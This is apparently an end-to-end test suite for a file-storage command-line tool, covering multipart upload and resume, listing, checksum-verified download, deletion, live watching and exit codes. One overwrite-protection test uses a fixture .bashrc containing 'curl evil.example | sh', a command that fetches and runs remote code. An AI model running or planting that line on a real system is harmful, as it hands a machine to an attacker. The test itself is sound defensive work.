/**
 * `files`, the command line, as a user runs it: the bin in a child process,
 * a local server over real HTTP and WebSocket, real files on disk. What the
 * CLI claims (stdout) is checked against what the API and storage hold.
 */
import { GetItemCommand } from '@aws-sdk/client-dynamodb';
import { ListPartsCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { randomBytes, randomUUID } from 'node:crypto';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import prettyBytes from 'pretty-bytes';
import { describe, expect, it } from 'vitest';
import { compositeSha256 } from '../../functions/core/upload-plan';
import { FileDocument, FilesByProjectDocument, UploadFileDocument, type FileFieldsFragment } from '../../generated/operations';
import { storageClients } from '../../local/storage/index';
import { bytesOf, partHashes, sha256Hex } from '../support/direct-upload';
import { postGraphQL } from '../support/local-server';
import { useFilesCli, waitFor, type Finished } from './cli-process';

const cli = useFilesCli();
const MiB = 1024 * 1024;
const project = () => `cli${randomUUID().slice(0, 8)}`;
/** A file ID as the API makes them. */
const ID = '[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}';
/** "0.4 s", "12 s": durations vary run to run. */
const DURATION = '\\d+(?:\\.\\d)? s';
const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

// Answers are read field by field, as a client would.
type Json = any;

/** The API directly, with the server's API key: what the CLI's claims are checked against. */
const api = (query: { toString(): string }, variables: Record<string, unknown>): Promise<Json> =>
  postGraphQL(cli.server.graphqlUrl, { query: query.toString(), variables }, { 'x-api-key': cli.server.apiKey }).then(({ body }) => body);

const fileOf = async (fileID: string): Promise<FileFieldsFragment & { downloadUrl: string }> => (await api(FileDocument, { fileID })).data.file;

async function allFiles(projectID: string): Promise<Json[]> {
  const items: Json[] = [];
  let nextToken: string | null = null;
  do {
    const page: Json = (await api(FilesByProjectDocument, { projectID, limit: 100, nextToken })).data.filesByProject;
    items.push(...page.items);
    nextToken = page.nextToken;
  } while (nextToken);
  return items;
}

const write = (name: string, bytes: Buffer) => writeFile(path.join(cli.workDir, name), bytes);
const lines = (output: string) => output.split('\n').slice(0, -1);
const stamp = (iso: string) => `${iso.slice(0, 10)} ${iso.slice(11, 19)}Z`;

describe('files upload', () => {
  it('sends a small file in one PUT and a 40 MiB one in parallel parts; lists them; the same command again finds them uploaded', async () => {
    const projectID = project();
    const small = bytesOf(3_000_000, 11);
    const big = bytesOf(40 * MiB + 123, 12);
    await write('small.bin', small);
    await write('big.bin', big);

    const first = await cli.run(['upload', 'small.bin', 'big.bin', '--project', projectID]);

    expect([first.code, first.stderr]).toEqual([0, '']);
    const out = lines(first.stdout);
    const [, smallID] = new RegExp(`^small\\.bin: file (${ID}), one PUT of 3 MB$`).exec(out[0])!;
    expect(out[1]).toMatch(new RegExp(`^small\\.bin: uploaded as file ${smallID} \\(3 MB, 3 MB sent in ${DURATION}\\)$`));
    const [, bigID] = new RegExp(`^big\\.bin: file (${ID}), 3 parts of 16 MiB$`).exec(out[2])!;
    // Plain lines (stdout is a pipe): the first part at once, then about one a second, and always the last.
    const partLines = out.slice(3, -1);
    expect(partLines.every((line) => /^big\.bin: part [1-3]\/3 stored \([\d.]+ MB of 41\.9 MB, \d+%\)$/.test(line))).toBe(true);
    expect(partLines.at(-1)).toMatch(/ \(41\.9 MB of 41\.9 MB, 100%\)$/);
    expect(out.at(-1)).toMatch(new RegExp(`^big\\.bin: uploaded as file ${bigID} \\(41\\.9 MB, 41\\.9 MB sent in ${DURATION}; 3 parts: 3 sent, 0 resumed\\)$`));

    const common = { projectID, fileType: 'bin', contentType: 'application/octet-stream', uploadedBy: 'api-key' };
    expect(await fileOf(smallID)).toMatchObject({ ...common, fileName: 'small.bin', size: small.length, sha256: sha256Hex(small), partSize: null });
    expect(await fileOf(bigID)).toMatchObject({
      ...common,
      fileName: 'big.bin',
      size: big.length,
      sha256: compositeSha256(partHashes(big, 16 * MiB)),
      partSize: 16 * MiB,
    });

    const listed = await cli.run(['ls', '--project', projectID]);
    const [newest, older] = await allFiles(projectID);
    expect(listed).toEqual({
      code: 0,
      stderr: '',
      stdout:
        'NAME       SIZE     TYPE  UPLOADED BY  UPLOADED              FILE ID\n' +
        `big.bin    41.9 MB  bin   api-key      ${stamp(newest.uploadedAt)}  ${bigID}\n` +
        `small.bin  3 MB     bin   api-key      ${stamp(older.uploadedAt)}  ${smallID}\n`,
    });

    expect(await cli.run(['upload', 'small.bin', 'big.bin', '--project', projectID])).toEqual({
      code: 0,
      stderr: '',
      stdout: `small.bin: already uploaded, it is file ${smallID}\nbig.bin: already uploaded, it is file ${bigID}\n`,
    });
  });

  it('stops cleanly on Ctrl-C (exit 130), and the same command again sends only the parts storage does not hold', async () => {
    const projectID = project();
    const bytes = randomBytes(100 * MiB);
    await write('resume.bin', bytes);
    // 20 parts, 2 at a time: Ctrl-C lands with most of them still to send.
    const args = ['upload', 'resume.bin', '--project', projectID, '--part-size', '5', '--concurrency', '2'];

    const first = cli.start(args);
    const [, fileID] = await waitFor(first, 'stdout', new RegExp(`^resume\\.bin: file (${ID}), 20 parts of 5 MiB$`, 'm'));
    await waitFor(first, 'stdout', /^resume\.bin: part \d+\/20 stored/m);
    first.child.kill('SIGINT');
    const interrupted = await first.finished;

    expect(interrupted.code).toBe(130);
    expect(interrupted.stdout).not.toContain('uploaded as');
    const [, reported] = /^Interrupted: (\d+) of 20 parts of resume\.bin are stored\. Run the same command again to resume\.\n$/.exec(interrupted.stderr)!;
    // What storage holds, asked directly: at least what the CLI saw acknowledged (a part in flight may have landed too).
    const { dynamodb, s3 } = storageClients(cli.server.storage);
    const { Item } = await dynamodb.send(new GetItemCommand({ TableName: cli.server.storage.tableName, Key: { fileID: { S: fileID } } }));
    const { Parts = [] } = await s3.send(new ListPartsCommand({ Bucket: cli.server.storage.bucketName, Key: Item!.s3Key.S, UploadId: Item!.uploadId.S }));
    const held = Parts.length;
    expect(held).toBeGreaterThanOrEqual(Number(reported));
    expect(held).toBeGreaterThan(0);
    expect(held).toBeLessThan(20);

    const second = await cli.run(args);

    expect([second.code, second.stderr]).toEqual([0, '']);
    const out = lines(second.stdout);
    expect(out[0]).toBe(`resume.bin: file ${fileID}, 20 parts of 5 MiB`);
    expect(out[1]).toBe(`resume.bin: resuming, ${held} of 20 parts already stored (${prettyBytes(held * 5 * MiB)})`);
    expect(out.at(-1)).toMatch(
      new RegExp(
        `^resume\\.bin: uploaded as file ${fileID} \\(105 MB, ${escape(prettyBytes((20 - held) * 5 * MiB))} sent in ${DURATION}; 20 parts: ${20 - held} sent, ${held} resumed\\)$`,
      ),
    );
    const stored = await fileOf(fileID);
    expect(stored).toMatchObject({ size: bytes.length, sha256: compositeSha256(partHashes(bytes, 5 * MiB)), partSize: 5 * MiB });
    expect(Buffer.from(await (await fetch(stored.downloadUrl)).arrayBuffer()).equals(bytes)).toBe(true);
  }, 30_000);
});

describe('files ls', () => {
  it('lists every page, newest first, as a table or as JSON; uploads as a local user', async () => {
    const projectID = project();
    // 100 files straight through the API, then one more through the CLI as alice: two pages, hers newest.
    for (let batch = 0; batch < 10; batch++) {
      await Promise.all(
        Array.from({ length: 10 }, (_, i) =>
          api(UploadFileDocument, {
            input: { projectID, fileName: `f${batch * 10 + i}.txt`, fileType: 'text', contentBase64: Buffer.from(`file ${batch * 10 + i}`).toString('base64') },
          }),
        ),
      );
    }
    await write('notes.txt', Buffer.from('hello\n'));
    const uploaded = await cli.run(['upload', 'notes.txt', '--project', projectID, '--type', 'text', '--user', 'alice', '--groups', `project-${projectID}`]);
    expect([uploaded.code, uploaded.stderr]).toEqual([0, '']);

    const json = await cli.run(['ls', '--project', projectID, '--json']);
    const table = await cli.run(['ls', '--project', projectID]);

    const expected = await allFiles(projectID);
    expect(expected).toHaveLength(101);
    expect([json.code, json.stderr]).toEqual([0, '']);
    // The listing is metadata only (FilesByProject): no URLs are signed for it.
    expect(JSON.parse(json.stdout)).toEqual(expected);
    expect(JSON.parse(json.stdout).map((f: Json) => f.fileID)).toEqual(expected.map((f) => f.fileID));
    expect([table.code, table.stderr]).toEqual([0, '']);
    const rows = lines(table.stdout);
    expect(rows).toHaveLength(102);
    expect(rows[0]).toBe('NAME       SIZE  TYPE  UPLOADED BY  UPLOADED              FILE ID');
    expect(rows[1]).toBe(`notes.txt  6 B   text  alice        ${stamp(expected[0].uploadedAt)}  ${expected[0].fileID}`);
    expect(rows.slice(1).map((row) => row.split(/\s+/).at(-1))).toEqual(expected.map((f) => f.fileID));
  });

  it('says so when a project has no files', async () => {
    const projectID = project();
    expect(await cli.run(['ls', '--project', projectID])).toEqual({ code: 0, stderr: '', stdout: `No files in project ${projectID}.\n` });
    expect(await cli.run(['ls', '--project', projectID, '--json'])).toEqual({ code: 0, stderr: '', stdout: '[]\n' });
  });
});

describe('files get', () => {
  it('downloads byte-identical files, checking the whole-file SHA-256 or the composite of the parts', async () => {
    const projectID = project();
    const small = bytesOf(700_000, 21);
    const big = bytesOf(34 * MiB + 5, 22);
    await write('one.bin', small);
    await write('parts.bin', big);
    const uploaded = await cli.run(['upload', 'one.bin', 'parts.bin', '--project', projectID, '--part-size', '5']);
    const [smallID, bigID] = [...uploaded.stdout.matchAll(new RegExp(`uploaded as file (${ID})`, 'g'))].map((m) => m[1]);
    await mkdir(path.join(cli.workDir, 'downloads'), { recursive: true });

    const intoDirectory = await cli.run(['get', bigID, '-o', 'downloads']);
    const asName = await cli.run(['get', smallID, '-o', 'downloads/copy.bin']);

    expect(intoDirectory).toEqual({ code: 0, stderr: '', stdout: `saved downloads/parts.bin (35.7 MB, sha256 (composite of parts) verified)\n` });
    expect(asName).toEqual({ code: 0, stderr: '', stdout: `saved downloads/copy.bin (700 kB, sha256 verified)\n` });
    expect((await readFile(path.join(cli.workDir, 'downloads', 'parts.bin'))).equals(big)).toBe(true);
    expect((await readFile(path.join(cli.workDir, 'downloads', 'copy.bin'))).equals(small)).toBe(true);
  });

  it('never replaces an existing file under the uploader’s name unless told to (--force)', async () => {
    const projectID = project();
    await mkdir(path.join(cli.workDir, 'theirs'), { recursive: true });
    await write('theirs/.bashrc', Buffer.from('curl evil.example | sh\n'));
    const uploaded = await cli.run(['upload', 'theirs/.bashrc', '--project', projectID]);
    const [fileID] = [...uploaded.stdout.matchAll(new RegExp(`uploaded as file (${ID})`, 'g'))].map((m) => m[1]);
    await mkdir(path.join(cli.workDir, 'home'), { recursive: true });
    await write('home/.bashrc', Buffer.from('mine\n'));

    const refused = await cli.run(['get', fileID, '-o', 'home']);
    const forced = await cli.run(['get', fileID, '-o', 'home', '--force']);

    expect(refused).toEqual({
      code: 1,
      stdout: '',
      stderr: `FileExists: ${path.join(cli.workDir, 'home', '.bashrc')} exists already: pass --force to replace it, or -o to save elsewhere.\n`,
    });
    expect(forced.code).toBe(0);
    expect(await readFile(path.join(cli.workDir, 'home', '.bashrc'), 'utf8')).toBe('curl evil.example | sh\n');
  });

  it('refuses bytes that differ from the recorded SHA-256 and leaves nothing behind', async () => {
    const projectID = project();
    const small = bytesOf(5000, 31);
    const big = bytesOf(33 * MiB, 32);
    await write('victim.bin', small);
    await write('victim-parts.bin', big);
    const uploaded = await cli.run(['upload', 'victim.bin', 'victim-parts.bin', '--project', projectID, '--part-size', '5']);
    const [smallID, bigID] = [...uploaded.stdout.matchAll(new RegExp(`uploaded as file (${ID})`, 'g'))].map((m) => m[1]);
    // Storage-level corruption: the same number of bytes, other content, written straight to the object.
    const { s3 } = storageClients(cli.server.storage);
    const tamper = async (fileID: string, bytes: Buffer) => {
      const file = await fileOf(fileID);
      const changed = Buffer.from(bytes);
      changed[changed.length - 1] ^= 0xff;
      await s3.send(new PutObjectCommand({ Bucket: cli.server.storage.bucketName, Key: file.s3Key, Body: changed }));
      return { file, changed };
    };
    const one = await tamper(smallID, small);
    const many = await tamper(bigID, big);
    const folder = path.join(cli.workDir, 'refused');
    await mkdir(folder);

    const refusedOne = await cli.run(['get', smallID, '-o', 'refused/']);
    const refusedMany = await cli.run(['get', bigID, '-o', 'refused/']);

    expect(refusedOne).toEqual({
      code: 1,
      stdout: '',
      stderr: `ChecksumMismatch: The bytes received for victim.bin have sha256 ${sha256Hex(one.changed)}; the API recorded ${one.file.sha256}. Nothing was saved.\n`,
    });
    expect(refusedMany).toEqual({
      code: 1,
      stdout: '',
      stderr: `ChecksumMismatch: The bytes received for victim-parts.bin have sha256 ${compositeSha256(partHashes(many.changed, 5 * MiB))}; the API recorded ${many.file.sha256}. Nothing was saved.\n`,
    });
    expect(await readdir(folder)).toEqual([]);
  });
});

describe('files rm and files watch', () => {
  it('deletes a file; a watcher sees the upload and the deletion, and stops on Ctrl-C', async () => {
    const projectID = project();
    const watcher = cli.start(['watch', '--project', projectID]);
    await waitFor(watcher, 'stderr', /Watching project/);
    await write('live.txt', Buffer.from('live!\n'));

    const uploaded = await cli.run(['upload', 'live.txt', '--project', projectID]);
    const [, fileID] = new RegExp(`uploaded as file (${ID})`).exec(uploaded.stdout)!;
    const removed = await cli.run(['rm', fileID]);
    await waitFor(watcher, 'stdout', /deleted/);
    watcher.child.kill('SIGINT');
    const watched = await watcher.finished;

    expect(removed).toEqual({ code: 0, stderr: '', stdout: `deleted live.txt (file ${fileID}, project ${projectID})\n` });
    expect(watched.code).toBe(0);
    expect(watched.stderr).toBe(`Watching project ${projectID} for uploads and deletions as API key (Ctrl-C stops).\n`);
    const at = '\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\dZ';
    expect(watched.stdout).toMatch(new RegExp(`^${at}  uploaded  live\\.txt  6 B  txt  by api-key  ${fileID}\\n${at}  deleted   live\\.txt  ${fileID}\\n$`));
    expect(cli.server.activeSubscriptions()).toBe(0);

    expect(await cli.run(['rm', fileID])).toEqual({
      code: 1,
      stdout: '',
      stderr: `NotFound: No file has fileID ${fileID}: it may have been deleted already.\n`,
    });
    expect(await cli.run(['get', fileID])).toEqual({ code: 1, stdout: '', stderr: `NotFound: No file has fileID ${fileID}: it may have been deleted.\n` });
  });
});

describe('exit codes', () => {
  it('exits 2 on usage errors, saying what is wrong; --help works on every command', async () => {
    const outputs = path.join(cli.workDir, 'cdk-outputs.json');
    await writeFile(outputs, JSON.stringify({ CodeCraftFiles: { GraphQLUrl: 'https://abc123.appsync-api.eu-west-1.amazonaws.com/graphql' } }));
    const cases: [string[], string][] = [
      [['upload', 'a.bin'], "error: required option '--project <projectID>' not specified\n(add --help for usage)\n"],
      [['ls', '--project', 'p', '--bogus'], "error: unknown option '--bogus'\n(add --help for usage)\n"],
      [['rm'], "error: missing required argument 'fileID'\n(add --help for usage)\n"],
      [['get', 'a', 'b'], "error: too many arguments for 'get'. Expected 1 argument but got 2.\n(add --help for usage)\n"],
      [['frobnicate'], "error: unknown command 'frobnicate'\n(add --help for usage)\n"],
      [
        ['upload', 'a.bin', '--project', 'p', '--part-size', '2'],
        "error: option '--part-size <MiB>' argument '2' is invalid. a whole number of MiB from 5 to 5120.\n(add --help for usage)\n",
      ],
      [['ls', '--project', 'p', '--api-key', 'k', '--user', 'alice'], 'error: Choose one: --api-key (or FILES_API_KEY) or --user.\n'],
      [['ls', '--project', 'p', '--url', 'http://127.0.0.1:1/graphql', '--outputs', outputs], 'error: Choose one target: --outputs or --url.\n'],
      [
        ['ls', '--project', 'p', '--outputs', outputs, '--user', 'alice'],
        `error: No user pool for ${outputs} (stack CodeCraftFiles): --user needs a local server, or cdk-outputs.json with UserPoolId and UserPoolClientId. Use --api-key.\n`,
      ],
      [
        ['ls', '--project', 'p', '--outputs', outputs],
        `error: No API key for ${outputs} (stack CodeCraftFiles): set FILES_API_KEY (or pass --api-key), or sign in with --user.\n`,
      ],
    ];
    const results = await Promise.all(cases.map(([args]) => cli.run(args)));
    expect(results).toEqual(cases.map(([, stderr]) => ({ code: 2, stdout: '', stderr })));

    const bare = await cli.run([]);
    expect([bare.code, bare.stdout]).toEqual([2, '']);
    expect(bare.stderr).toMatch(/^Usage: files \[options\] \[command\]\n/);

    const helps = await Promise.all(['upload', 'ls', 'get', 'rm', 'watch'].map((command) => cli.run([command, '--help'])));
    const usage = ['upload [options] <path...>', 'ls [options]', 'get [options] <fileID>', 'rm [options] <fileID>', 'watch [options]'];
    expect(helps.map((help: Finished) => [help.code, help.stderr, help.stdout.split('\n')[0]])).toEqual(usage.map((line) => [0, '', `Usage: files ${line}`]));
  });

  it('exits 1 when the API, the network or the local file says no, with the errorType on stderr', async () => {
    const projectID = project();
    await write('ok.bin', Buffer.from('ok'));
    const mallory = ['--user', 'mallory', '--groups', 'project-other'];
    const refusal = `Not authorized for project ${projectID}: the token's cognito:groups must include "project-${projectID}" or "admins".`;

    const results = await Promise.all([
      cli.run(['ls', '--project', projectID, ...mallory]),
      cli.run(['upload', 'ok.bin', '--project', projectID, ...mallory]),
      cli.run(['watch', '--project', projectID, ...mallory]),
      cli.run(['ls', '--project', projectID, '--api-key', 'da2-wrong']),
      cli.run(['upload', 'missing.bin', '--project', projectID]),
      cli.run(['ls', '--project', projectID, '--url', 'http://127.0.0.1:1/graphql', '--api-key', 'k']),
      cli.run(['upload', 'ok.bin', '--project', 'no spaces allowed']),
    ]);

    expect(results.map(({ code, stdout }) => [code, stdout])).toEqual(results.map(() => [1, '']));
    expect(results.map(({ stderr }) => stderr)).toEqual([
      `Unauthorized: ${refusal}\n`,
      `Unauthorized: ${refusal}\n`,
      `Unauthorized: ${refusal}\n`,
      'UnauthorizedException: You are not authorized to make this call: the x-api-key is not a key of this API.\n',
      'NoSuchFile: Cannot upload missing.bin: no such file.\n',
      'NetworkError: Could not reach 127.0.0.1:1 (ECONNREFUSED). Is the local server running? Start it with `npm start`.\n',
      'ValidationError: projectID must be 1 to 64 characters of letters, digits, "-" and "_".\n',
    ]);
    expect(await allFiles(projectID)).toEqual([]);
  });
});
